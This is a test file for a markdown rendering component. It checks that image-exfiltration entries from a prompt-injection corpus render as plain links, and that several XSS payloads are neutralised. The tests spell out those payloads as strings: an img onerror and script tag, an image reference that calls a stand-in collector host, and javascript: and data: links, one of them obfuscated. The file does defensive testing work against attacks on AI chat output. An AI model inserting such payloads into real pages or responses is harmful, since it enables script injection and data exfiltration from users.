import { expect, test } from "bun:test";
import { renderToStaticMarkup } from "react-dom/server";
import MarkdownView from "../../../../src/console/parts/text/markdown-view.tsx";
import corpus from "../../../corpora/prompt_injection.json" with { type: "json" };

const shown = (text: string) => renderToStaticMarkup(<MarkdownView text={text} />);

const pictures = corpus.entries.filter(({ why }) => why.startsWith("image exfiltration"));

test.each(pictures.map(({ id, input }) => [id, input.text ?? ""]))(
  "%s: a picture is a link that nothing follows by itself",
  (_, text) => {
    const html = shown(text);
    expect(html).not.toContain("<img");
    expect(html).toContain("<a ");
  },
);

test("the corpus has such a picture", () => {
  expect(pictures.map(({ id }) => id)).toContain("prompt_injection-032");
});

test.each([
  ["markup", "<img src=x onerror=alert(1)><script>alert(1)</script>", /<img|<script/],
  ["a reference to a picture", "![x][p]\n\n[p]: https://collector.example/?d=1", /<img/],
  ["a link that is code", "[x](javascript:alert(1))", /javascript:/],
  ["a link that is a document", "[x](data:text/html,<script>alert(1)</script>)", /href="data:/],
  ["a link spelled oddly", "[x](JaVaScRiPt&colon;alert(1))", /javascript/i],
])("%s does nothing", (_, text, forbidden) => {
  expect(shown(text)).not.toMatch(forbidden);
});

test("what people write is shown as they mean it", () => {
  const html = shown(
    "# Head\n\n- a\n- **b**\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n[site](https://example.com)",
  );
  for (const part of ["<h1>", "<li>", "<strong>", "<table>", 'href="https://example.com"', "noreferrer"])
    expect(html).toContain(part);
});
